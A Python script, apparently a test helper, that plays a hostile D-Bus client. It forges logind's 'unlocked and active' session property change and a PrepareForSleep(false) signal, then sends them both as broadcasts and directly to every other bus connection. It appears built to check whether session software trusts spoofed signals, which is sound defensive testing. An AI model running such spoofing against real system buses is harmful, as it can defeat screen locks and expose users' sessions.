#!/usr/bin/python3
# Plays a hostile process on the system bus: emits logind's "unlocked and active" PropertiesChanged for
# the session path, and PrepareForSleep(false), both broadcast and sent to every other connection (a
# signal addressed to a connection needs no match rule). Prints "sent" once the bus has routed them.
import argparse

import dbus
from dbus.lowlevel import SignalMessage


def signal(path, interface, member, signature, args, destination=None):
    message = SignalMessage(path, interface, member)
    message.append(*args, signature=signature)
    if destination:
        message.set_destination(destination)
    return message


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--address", required=True)
    parser.add_argument("--session-path", default="/org/freedesktop/login1/session/_37")
    args = parser.parse_args()
    bus = dbus.bus.BusConnection(args.address)
    me = bus.get_unique_name()
    names = bus.call_blocking("org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus", "ListNames", "", [])
    targets = [None] + [str(n) for n in names if str(n).startswith(":") and str(n) != me]
    for target in targets:
        bus.send_message(signal(args.session_path, "org.freedesktop.DBus.Properties", "PropertiesChanged", "sa{sv}as",
                                ["org.freedesktop.login1.Session",
                                 {"LockedHint": dbus.Boolean(False, variant_level=1),
                                  "Active": dbus.Boolean(True, variant_level=1)}, dbus.Array([], signature="s")],
                                target))
        bus.send_message(signal("/org/freedesktop/login1", "org.freedesktop.login1.Manager", "PrepareForSleep", "b",
                                [dbus.Boolean(False)], target))
    bus.flush()
    bus.call_blocking("org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus", "GetId", "", [])
    print("sent", flush=True)


if __name__ == "__main__":
    main()
